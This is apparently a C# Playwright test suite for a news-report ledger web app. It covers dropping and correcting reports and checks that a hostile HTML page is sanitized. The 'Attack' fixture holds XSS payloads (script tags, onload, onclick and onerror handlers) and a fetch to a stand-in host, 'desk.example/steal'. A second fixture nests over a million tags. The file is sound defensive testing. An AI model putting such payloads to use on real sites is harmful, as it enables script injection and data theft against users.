using System.Text;
using System.Text.RegularExpressions;
using Microsoft.Playwright;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace OnRecord.Web.Tests;

/// <summary>A day's work in a browser: reports dropped on an empty desk, looked at, corrected, put back; and what a hostile page tries.</summary>
public sealed class WorkTests(Chromium chromium) : IClassFixture<Chromium>, IDisposable
{
    private const string Attack = """
        <!DOCTYPE html><html><head><title>Quay to close</title><meta property="og:site_name" content="<script>window.ran=1</script>Gazette">
        <script>window.ran = 1; fetch('https://desk.example/steal')</script></head>
        <body onload="window.ran=1"><article><h1 onclick="window.ran=1">Quay to close &lt;script&gt;window.ran=1&lt;/script&gt;</h1><p>The harbour master, Jon Vik, said on Tuesday that
        “the quay will close &lt;img src=x onerror='window.ran=1'&gt; in May.”<img src="https://desk.example/pixel" onerror="window.ran=1"><iframe src="https://desk.example/"></iframe></p>
        <p>“Nobody asked the fishermen,” said Ada Holm, who leads their union. She spoke to reporters at the harbour of Elmar on Wednesday morning.</p></article></body></html>
        """;

    private readonly string _folder = Directory.CreateTempSubdirectory("onrecord-desk-").FullName;

    [Fact]
    public async Task Reports_are_dropped_compared_corrected_and_put_back()
    {
        await using Desk desk = await SampleDesk.Start(Path.Combine(_folder, "work.db"));
        await using Visit visit = await chromium.Open(desk.Address);
        IPage page = visit.Page;
        await page.GotoAsync("/");
        await Drop(page, [.. SampleDesk.Files.Select(file => (Path.GetFileName(file), File.ReadAllText(file)))]);
        await Expect(page.Locator("h1")).ToHaveTextAsync("Three reports on record");
        await page.Locator("a[href^='/stories/']").First.ClickAsync();
        await Expect(page.Locator(".reports-list li")).ToHaveCountAsync(3);

        // Somebody else said the first utterance: correct it from the story.
        string before = await page.Locator(".utterance h3").First.InnerTextAsync();
        await page.Locator(".utterance .open").First.ClickAsync();
        string speaker = await page.Locator("select[name='actor'] option:checked").InnerTextAsync();
        await page.GetByText("Somebody else said it").ClickAsync();
        string other = await page.Locator("select[name='actor'] option").Nth(1).InnerTextAsync() is { } first && first != speaker ? first : await page.Locator("select[name='actor'] option").Nth(2).InnerTextAsync();
        await page.Locator("select[name='actor']").SelectOptionAsync(new SelectOptionValue { Label = other });
        await page.GetByRole(AriaRole.Button, new() { Name = "Correct the speaker" }).ClickAsync();
        await Expect(page.Locator(".notice")).ToContainTextAsync("Corrected");
        await Expect(page.Locator("main .figures")).ToHaveTextAsync(other);

        // And back, from the list of corrections.
        await page.GetByRole(AriaRole.Link, new() { Name = "Corrections" }).ClickAsync();
        await page.Locator(".corrections").GetByRole(AriaRole.Button).ClickAsync();
        await Expect(page.Locator(".corrections .kind")).ToHaveTextAsync("Undone");
        await page.GetByRole(AriaRole.Link, new() { Name = "Stories" }).ClickAsync();
        await page.Locator("a[href^='/stories/']").First.ClickAsync();
        Assert.Equal(before, await page.Locator(".utterance h3").First.InnerTextAsync());
        await Screenshots.Take(page, "worked");
        visit.AssertNothingWentWrong();
    }

    [Fact]
    public async Task A_text_is_pasted_without_script()
    {
        await using Desk desk = await SampleDesk.Start(Path.Combine(_folder, "paste.db"));
        await using Visit visit = await chromium.Open(desk.Address, withScript: false);
        await visit.Page.GotoAsync("/add");
        await visit.Page.Locator("textarea").FillAsync("The harbour master, Jon Vik, said on Tuesday that “the quay will close in May.” He spoke in Elmar.");
        await visit.Page.Locator("input[name='published']").FillAsync("2031-05-07");
        await visit.Page.GetByRole(AriaRole.Button, new() { Name = "Add to the ledger" }).ClickAsync();
        await Expect(visit.Page.Locator("h1")).ToHaveTextAsync("One report on record");
        visit.AssertNothingWentWrong();
    }

    [Fact]
    public async Task A_hostile_page_runs_nothing_and_asks_for_nothing()
    {
        await using Desk desk = await SampleDesk.Start(Path.Combine(_folder, "hostile.db"));
        await using Visit visit = await chromium.Open(desk.Address);
        IPage page = visit.Page;
        await page.GotoAsync("/add");
        await Drop(page, [("quay.html", Attack), ("nested.html", "<html><body>" + new StringBuilder().Insert(0, "<div><b>", 1_250_000) + "x")]);
        await Expect(page.Locator("h1")).ToHaveTextAsync("One report on record");
        await Expect(page.Locator(".facts").First).ToContainTextAsync("nested.html");
        await page.Locator("a[href^='/stories/']").First.ClickAsync();
        await Expect(page.Locator(".running")).ToContainTextAsync("the quay will close");
        Assert.False(await page.EvaluateAsync<bool>("'ran' in window"));
        await page.GetByRole(AriaRole.Link, new() { Name = "Read alone" }).ClickAsync();
        await Expect(page).ToHaveURLAsync(new Regex("/reports/"));
        Assert.False(await page.EvaluateAsync<bool>("'ran' in window"));
        Assert.Equal(0, await page.Locator("main img, main iframe, main script, main [onclick]").CountAsync());
        visit.AssertNothingWentWrong();
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    // As a browser does it: a drop of files on the page, wherever.
    private static async Task Drop(IPage page, params (string Name, string Text)[] files)
    {
        IJSHandle dropped = await page.EvaluateHandleAsync(
            "files => { const data = new DataTransfer(); for (const [name, text] of files) data.items.add(new File([text], name)); return data; }",
            files.Select(file => new[] { file.Name, file.Text }).ToArray());
        await page.DispatchEventAsync("h1", "drop", new { dataTransfer = dropped });
    }
}
